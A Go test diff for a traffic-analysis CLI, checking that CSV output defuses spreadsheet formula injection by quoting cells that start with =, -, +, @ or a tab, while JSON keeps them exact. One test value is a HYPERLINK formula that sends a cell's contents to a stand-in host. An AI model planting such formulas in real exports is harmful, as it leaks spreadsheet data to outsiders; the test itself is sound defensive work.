@@ -2,6 +2,7 @@ package cli
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"path/filepath"
 	"strings"
@@ -106,5 +107,48 @@ func TestTextCell(t *testing.T) {
 	}
 	for _, tt := range tests {
 		assert.Equal(t, tt.want, textCell(tt.in), "%q", tt.in)
+	}
+}
+
+// TestCLICSVDefusesFormulas: a spreadsheet must not evaluate a value from
+// the traffic opened from a CSV listing; JSON keeps it exact.
+func TestCLICSVDefusesFormulas(t *testing.T) {
+	db := filepath.Join(t.TempDir(), "db")
+	const formula = `=HYPERLINK("http://x.example/?"&A1,"open")`
+	in := writeFile(t, "f.jsonl", `{"ts":1740960000,"account":"-a1","device":"d1","template":"+t1"}
+{"ts":1740960001,"account":"@a2","device":"d1","template":"+t1"}
+{"ts":1740960002,"account":"a3","device":"d1","template":"t2"}
+`)
+	r := runCLI(t, "", "--db", db, "ingest", in)
+	require.Equal(t, 0, r.code, r.errOut)
+	r = runCLI(t, "", "--db", db, "attr", "show", "device", "d1", "--format", "csv")
+	require.Equal(t, 0, r.code, r.errOut)
+	rows, err := csv.NewReader(strings.NewReader(r.out)).ReadAll()
+	require.NoError(t, err)
+	var accounts []string
+	for _, row := range rows[1:] {
+		accounts = append(accounts, row[0])
+	}
+	assert.ElementsMatch(t, []string{"'-a1", "'@a2", "a3"}, accounts)
+
+	r = runCLI(t, "", "--db", db, "templates", "--format", "csv")
+	require.Equal(t, 0, r.code, r.errOut)
+	assert.Contains(t, r.out, "\n'+t1,false,2,")
+	assert.Contains(t, r.out, "\nt2,false,1,")
+
+	r = runCLI(t, "", "--db", db, "attr", "show", "device", "d1", "--format", "json")
+	require.Equal(t, 0, r.code, r.errOut)
+	assert.Contains(t, r.out, `"-a1"`, "JSON keeps the value")
+
+	tests := []struct{ in, want string }{
+		{formula, "'" + formula},
+		{"-1", "'-1"},
+		{"\tx", "'\tx"},
+		{"a=b", "a=b"},
+		{"", ""},
+		{"0.5", "0.5"},
+	}
+	for _, tc := range tests {
+		assert.Equal(t, tc.want, csvCell(tc.in), "%q", tc.in)
 	}
 }
